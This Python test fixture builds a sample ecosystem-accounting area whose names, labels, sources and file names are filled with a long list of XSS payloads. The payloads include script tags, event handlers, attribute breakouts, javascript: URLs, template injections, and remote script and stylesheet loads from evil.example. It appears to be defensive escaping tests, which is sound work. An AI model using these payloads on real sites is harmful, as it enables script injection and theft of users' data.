"""A table-only account with indicators, targets and findings, in which every name a user may write is markup that runs."""

import csv
import json
from collections.abc import Iterable
from itertools import cycle
from pathlib import Path

P = "window.__pwned=1"
PAYLOADS = (
    f"<script>{P}</script>",
    f"<ScRiPt>{P}</sCrIpT>",
    f"<img src=x onerror={P}>",
    f'"><img src=x onerror={P}>',
    f"'><svg onload={P}>",
    f"<svg/onload={P}>",
    f"<body onload={P}>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    f"<iframe src=javascript:{P}>",
    f'<a href="javascript:{P}">x</a>',
    f"javascript:{P}",
    f"<details open ontoggle={P}>x",
    f"<input autofocus onfocus={P}>",
    f"<video><source onerror={P}></video>",
    f"<audio src=x onerror={P}>",
    f"<marquee onstart={P}>x",
    f"<math><mi xlink:href='javascript:{P}'>x",
    f"<object data='javascript:{P}'>",
    f"<embed src='javascript:{P}'>",
    f"</style><script>{P}</script>",
    f"</script><script>{P}</script>",
    f"</textarea><script>{P}</script>",
    f"</title><script>{P}</script>",
    f"--><script>{P}</script>",
    f"]]><script>{P}</script>",
    f"{{{{constructor.constructor('{P}')()}}}}",
    f"${{{P}}}",
    f"#{{{P}}}",
    f"<%= {P} %>",
    f"';{P};//",
    f'";{P};//',
    f"`;{P};`",
    f'\\";{P};//',
    f'" onmouseover="{P}" x="',
    f"' onmouseover='{P}' x='",
    f'" autofocus onfocus="{P}',
    f"&lt;script&gt;{P}&lt;/script&gt;",
    f"\\u003cscript\\u003e{P}\\u003c/script\\u003e",
    "<base href='//evil.example/'><link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style><script src=//evil.example/x.js></script>",
)
CITY = "990100"
COUNTIES = tuple(f"99010{number}" for number in range(1, 9))
YEARS = range(2018, 2024)
FILES = (
    "' onmouseover='window.__pwned=1' x='.csv",
    '" autofocus onfocus="window.__pwned=1.csv',
)  # signs of tags are no name of a file
LINES = ("crop_provision,orchard", "wood_provision,bamboo", "fishery_provision,lake", "crop_provision,paddy")


def write_area(folder: Path) -> Path:
    """Write the area, account it, find what is wrong in it, comment on a finding; return its folder."""
    from shanshui.run.account import prepare
    from shanshui.run.findings import act, book, update
    from shanshui.run.run import run

    texts = cycle(PAYLOADS)
    folder.mkdir()
    _places(folder, texts)
    _tables(folder, texts)
    _indicators(folder, texts)
    _settings(folder, texts)
    run(prepare(folder))
    update(folder)
    first = next(iter(book(folder).chosen()))
    act(folder, first.id, "accept", next(texts), {"owner": next(texts), "by": next(texts), "reason": next(texts)})
    return folder


def _write(path: Path, head: str, rows: Iterable[Iterable[object]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(head.split(","))
        writer.writerows(rows)


def _places(folder: Path, texts: "cycle[str]") -> None:
    rows = [(CITY, "", "city", next(texts), next(texts))]
    rows += [(code, CITY, "county", next(texts), next(texts)) for code in COUNTIES]
    _write(folder / "places.csv", "code,parent,level,name_zh,name_en", rows)


def _tables(folder: Path, texts: "cycle[str]") -> None:
    rows = []
    for number, code in enumerate(COUNTIES, 1):
        service, kind = LINES[number % len(LINES)].split(",")
        rows.append((code, kind, service, next(texts), 400 * number, "t", 6, "万元/t", next(texts)))
    _write(folder / FILES[0], "place,ecosystem_type,service,item,quantity,unit,price,price_unit,source", rows)
    people = [(code, "population", 8.3 + number, "万人", 2023, next(texts)) for number, code in enumerate(COUNTIES)]
    _write(folder / "people.csv", "place,variable,value,unit,year,source", people)


def _indicators(folder: Path, texts: "cycle[str]") -> None:
    head = "id,label_zh,label_en,unit,direction,over_places,numerator,denominator,factor"
    rows = [
        (id, next(texts), next(texts), unit, "up", over, "", "", "")
        for id, unit, over in (("gdp", "亿元", "sum"), ("income", "yuan person-1", "none"), ("trees", "ha", "sum"))
    ]
    _write(folder / "dictionary.csv", head, rows)
    values = [
        (id, code, year, round(base * grow ** (year - 2018), 2), unit, "")
        for year in YEARS
        for number, code in enumerate(COUNTIES)
        for id, base, unit in (("gdp", 50, "亿元"), ("income", 30000, "yuan person-1"), ("trees", 40, "ha"))
        for grow in [1.01 if number == 1 else 1.08]
    ]
    _write(folder / FILES[1], "indicator,place,period,value,unit,status", values)
    head = "id,indicator,level,place,base_period,period,rate,target,owner,document,label_zh,label_en"
    rows = [
        ("gdp-county", "gdp", "county", "", 2018, 2025, "8%", "", *(next(texts) for _ in range(4))),
        ("gdp-city", "gdp", "", CITY, 2018, 2025, "", 5000, *(next(texts) for _ in range(4))),
        ("trees-city", "trees", "", CITY, 2018, 2025, "", 1000, *(next(texts) for _ in range(4))),
    ]
    _write(folder / "targets.csv", head, rows)
    index = [("all", "", "", next(texts), next(texts)), ("gdp", "all", 1, "", ""), ("income", "all", 1, "", "")]
    _write(folder / "index.csv", "code,parent,weight,name_zh,name_en", index)


def _settings(folder: Path, texts: "cycle[str]") -> None:
    def both() -> dict[str, str]:
        return {"zh": next(texts), "en": next(texts)}

    told = {
        "area": {"code": CITY, "name": both()},
        "standard": "ndrc-2022",
        "periods": [2023],
        "places": {"file": "places.csv"},
        "tables": {
            "quantities": {"file": FILES[0], "source": next(texts)},
            "people": {"file": "people.csv", "source": next(texts)},
        },
        "indicators": {"file": "dictionary.csv"},
        "observations": [{"file": FILES[1], "published": "2024-03-01", "source": next(texts)}],
        "targets": {"file": "targets.csv"},
        "benchmark": {"index": "index.csv"},
        "notes": [both()],
    }
    (folder / "area.yaml").write_text(json.dumps(told, ensure_ascii=False), "utf-8")  # JSON is YAML too
